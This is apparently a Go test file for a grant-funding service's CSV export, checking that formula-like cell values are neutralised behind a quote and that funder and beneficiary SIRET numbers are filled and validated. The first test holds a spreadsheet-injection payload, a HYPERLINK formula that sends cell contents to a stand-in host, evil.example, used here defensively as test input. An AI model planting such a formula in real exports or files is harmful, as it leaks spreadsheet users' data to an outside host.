package app_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"slices"
	"strings"
	"testing"

	"github.com/vif71/vif/services/funding/internal/domain"
)

// TestExportNeutralisesFormulas writes names a caller chose to look like formulas into an
// agreement, exports it and opens the file with a real CSV reader: no cell starts a formula, and
// each dangerous one reads as the text given, behind a quote.
func TestExportNeutralisesFormulas(t *testing.T) {
	ctx := context.Background()
	svc := newService(t)
	const (
		funderName = `=HYPERLINK("http://evil.example/?"&A1,"Cliquez")`
		reference  = "+CONV-2024-03"
		purpose    = "-2+3 ISCG"
	)
	if _, err := svc.UpdateFunder(ctx, "departement-71", domain.Funder{DisplayName: funderName}, []string{"display_name"}, ""); err != nil {
		t.Fatal(err)
	}
	if _, err := svc.CreatePlan(ctx, plan(2024)); err != nil {
		t.Fatal(err)
	}
	a, err := svc.CreateAgreement(ctx, domain.Agreement{Post: "iscg-louhannais", Year: 2024, Purpose: purpose})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := svc.SignAgreement(ctx, a.ID, "@"+reference, "2024-02-10", ""); err != nil {
		t.Fatal(err)
	}
	data, err := svc.ExportCSV(ctx, 2024)
	if err != nil {
		t.Fatal(err)
	}
	records, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil || len(records) != 3 {
		t.Fatalf("ExportCSV read back = %d records, %v; want the header and 2 rows:\n%s", len(records), err, data)
	}
	for _, r := range records {
		for _, cell := range r {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q starts a formula", cell)
			}
		}
	}
	col := func(name string) int { return slices.Index(records[0], name) }
	for _, r := range records[1:] {
		if got := r[col("referenceDecision")]; got != "'@"+reference {
			t.Errorf("referenceDecision = %q; want %q", got, "'@"+reference)
		}
		if got := r[col("objet")]; got != "'"+purpose {
			t.Errorf("objet = %q; want %q", got, "'"+purpose)
		}
	}
	if !slices.ContainsFunc(records[1:], func(r []string) bool { return r[col("nomAttribuant")] == "'"+funderName }) {
		t.Errorf("no row names the funder %q behind a quote: %q", funderName, records[1:])
	}
}

// TestExportFillsSIRETs: idAttribuant is the funder's SIRET, idBeneficiaire the post's.
func TestExportFillsSIRETs(t *testing.T) {
	ctx := context.Background()
	svc := newService(t)
	sirets := map[string]string{"etat": "17710000500012", "departement-71": "22710000500015"}
	for id, siret := range sirets {
		if _, err := svc.UpdateFunder(ctx, id, domain.Funder{SIRET: siret}, []string{"siret"}, ""); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := svc.UpdatePost(ctx, "iscg-louhannais", domain.Post{SIRET: "71000003500018"}, []string{"siret"}, ""); err != nil {
		t.Fatal(err)
	}
	_, err := svc.UpdatePost(ctx, "iscg-louhannais", domain.Post{SIRET: "71000003500019"}, []string{"siret"}, "")
	wantField(t, "UpdatePost(a SIRET with a wrong key)", err, "post.siret")
	signed(t, svc)
	data, err := svc.ExportCSV(ctx, 2024)
	if err != nil {
		t.Fatal(err)
	}
	records, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil || len(records) != 3 {
		t.Fatalf("ExportCSV read back = %d records, %v; want the header and 2 rows", len(records), err)
	}
	col := func(name string) int { return slices.Index(records[0], name) }
	got := map[string]string{}
	for _, r := range records[1:] {
		got[r[col("nomAttribuant")]] = r[col("idAttribuant")]
		if r[col("idBeneficiaire")] != "71000003500018" {
			t.Errorf("idBeneficiaire = %q; want the post's SIRET 71000003500018", r[col("idBeneficiaire")])
		}
	}
	if got["État"] != sirets["etat"] || got["Département de Saône-et-Loire"] != sirets["departement-71"] {
		t.Errorf("idAttribuant by funder = %v; want the funders' SIRETs %v", got, sirets)
	}
}
